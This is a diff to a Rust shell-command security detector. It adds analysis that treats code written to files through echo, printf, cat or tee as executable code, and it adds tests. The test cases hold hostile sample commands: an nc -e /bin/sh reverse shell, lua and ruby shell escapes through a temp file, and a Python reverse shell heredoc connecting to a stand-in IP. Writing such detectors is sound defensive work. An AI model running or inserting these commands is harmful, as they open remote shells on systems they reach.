@@ -4,11 +4,15 @@
 //! test' | sh`) are analyzed as the commands they are, and a script read
 //! from a file (`cat install.sh | bash`) is judged like `bash install.sh`.
 //! Downloads and decoded payloads piped into a shell have their own rules.
+//!
+//! Code written to a file (`echo 'os.execute("/bin/sh")' > $TF; lua $TF`,
+//! `cat > x.py <<EOF … EOF`) is judged as the code it is, whatever later
+//! runs the file: the call that writes a reverse shell is the one to stop.
 
 use super::analyze::{Analysis, Analyzer};
 use super::effects::Effect;
 use super::escapes::SHELLS;
-use crate::detectors::shell::{Cmd, Script};
+use crate::detectors::shell::{lexer::RedirOp, Cmd, Script};
 
 /// Programs whose output into a shell is the content of the files they
 /// read: the same as running those files as scripts.
@@ -75,6 +79,35 @@ impl Analyzer<'_> {
     }
 }
 
+impl Analyzer<'_> {
+    pub(super) fn written_code(&self, script: &Script, out: &mut Analysis, depth: u8) {
+        if depth > 3 {
+            return;
+        }
+        for c in &script.commands {
+            let to_file = c.redirects.iter().any(|r| {
+                matches!(r.op, RedirOp::Out | RedirOp::Append)
+                    && !matches!(
+                        r.target.as_str(),
+                        "/dev/null" | "/dev/stdout" | "/dev/stderr"
+                    )
+            }) || (c.program == "tee" && c.args.iter().any(|a| !a.starts_with('-')));
+            if !to_file {
+                continue;
+            }
+            match c.program.as_str() {
+                "echo" | "printf" if !c.sub_args => self.code(&literal(c), out, depth + 1),
+                "cat" | "tee" => {
+                    for r in c.redirects.iter().filter(|r| r.op == RedirOp::HereDoc) {
+                        self.code(&r.target, out, depth + 1);
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
 /// A shell with no script and no `-c`: it runs what arrives on its input
 /// (`-s` takes the arguments after it as parameters, not a script).
 fn reads_commands_from_stdin(c: &Cmd) -> bool {
@@ -130,6 +163,25 @@ mod tests {
             "printf 'nc -e /bin/sh 203.0.113.9 4444\\n' | sh",
             Effect::Shell,
         );
+    }
+
+    #[test]
+    fn code_written_to_a_file_is_judged_as_code() {
+        attack(
+            "TF=$(mktemp); echo 'os.execute(\"/bin/sh\")' > $TF; lua $TF",
+            Effect::Shell,
+        );
+        attack(
+            "TF=$(mktemp); echo 'exec \"/bin/sh\"' > $TF; ruby $TF",
+            Effect::Shell,
+        );
+        attack(
+            "cat > /tmp/r.py <<'EOF'\nimport socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.4',4444))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\nEOF",
+            Effect::Shell,
+        );
+        flows("echo 'print(\"hello\")' > hello.py && python3 hello.py");
+        flows("cat > src/main.rs <<'EOF'\nfn main() { println!(\"hi\"); }\nEOF");
+        flows("echo 'export PATH=$HOME/bin:$PATH' >> .envrc");
     }
 
     #[test]
